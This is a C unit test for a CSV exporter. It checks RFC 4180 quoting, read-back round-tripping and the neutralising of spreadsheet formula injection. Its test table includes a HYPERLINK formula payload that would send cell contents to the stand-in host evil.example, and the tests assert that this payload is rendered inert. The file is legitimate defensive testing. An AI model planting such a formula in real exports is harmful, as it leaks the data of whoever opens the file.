/* CSV: an export's cells are quoted as RFC 4180 asks and made inert for a
 * spreadsheet, and what is written reads back through the reader. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "core/arena.h"
#include "core/csv.h"
#include "core/err.h"
#include "core/sb.h"

static const struct {
	const char *cell;
	const char *written;
	const char *read; /* what a spreadsheet is given as the cell's text */
} cells[] = {
	{NULL, "\"\"", ""},
	{"", "\"\"", ""},
	{"plain", "\"plain\"", "plain"},
	{"=1+1", "\"'=1+1\"", "'=1+1"},
	{"+1", "\"'+1\"", "'+1"},
	{"-1", "\"'-1\"", "'-1"},
	{"@SUM(A1)", "\"'@SUM(A1)\"", "'@SUM(A1)"},
	{"\t=1+1", "\"'\t=1+1\"", "'\t=1+1"},
	{"\r=1+1", "\"'\r=1+1\"", "'\r=1+1"},
	{"\r\n=1", "\"'\r\n=1\"", "'\r\n=1"},
	{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
	 "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
	 "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
	/* Only the first character decides. */
	{"a=1", "\"a=1\"", "a=1"},
	{" =1", "\" =1\"", " =1"},
	{"2026-03-01", "\"2026-03-01\"", "2026-03-01"},
	{"'=1", "\"'=1\"", "'=1"},
	{"a,b", "\"a,b\"", "a,b"},
	{"say \"hi\"", "\"say \"\"hi\"\"\"", "say \"hi\""},
	{"\"", "\"\"\"\"", "\""},
	{"line\nbreak", "\"line\nbreak\"", "line\nbreak"},
	{"cr\rinside", "\"cr\rinside\"", "cr\rinside"},
	{"Ünïcode, ✓", "\"Ünïcode, ✓\"", "Ünïcode, ✓"},
};
#define CELL_COUNT (sizeof cells / sizeof *cells)

static void every_cell_is_quoted_and_made_inert(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	for (size_t i = 0; i < CELL_COUNT; i++) {
		struct sb out;
		sb_init(&out, a, 4096);
		const char *row[] = {cells[i].cell};
		csv_write_row(&out, row, 1);
		assert_string_equal(sb_str(&out), arena_printf(a, "%s\r\n", cells[i].written));
	}
	struct sb out;
	sb_init(&out, a, 4096);
	const char *row[] = {"a", "=b", NULL, "\tc"};
	csv_write_row(&out, row, 4);
	assert_string_equal(sb_str(&out), "\"a\",\"'=b\",\"\",\"'\tc\"\r\n");
	arena_free(a);
}

/* Written as rows of every cell and read back, each row gives its cells
 * whole, in order: quoting keeps commas, quotes and line breaks inside. */
static void what_is_written_reads_back(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	struct sb out;
	sb_init(&out, a, 64 * 1024);
	const char *row[CELL_COUNT];
	for (size_t i = 0; i < CELL_COUNT; i++)
		row[i] = cells[i].cell;
	csv_write_row(&out, row, CELL_COUNT);
	csv_write_row(&out, row, CELL_COUNT);
	char path[] = "/tmp/alongside-test-csv-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, sb_str(&out), out.len), (ssize_t)out.len);
	close(fd);
	struct csv_reader *r;
	struct err e;
	assert_int_equal(csv_open(path, &r, &e), 0);
	struct csv_row got;
	for (int n = 0; n < 2; n++) {
		assert_int_equal(csv_next(r, &got, &e), 1);
		assert_int_equal(got.field_count, CELL_COUNT);
		for (size_t i = 0; i < CELL_COUNT; i++)
			assert_string_equal(got.fields[i], cells[i].read);
	}
	assert_int_equal(csv_next(r, &got, &e), 0);
	csv_close(r);
	unlink(path);
	arena_free(a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_cell_is_quoted_and_made_inert),
		cmocka_unit_test(what_is_written_reads_back),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
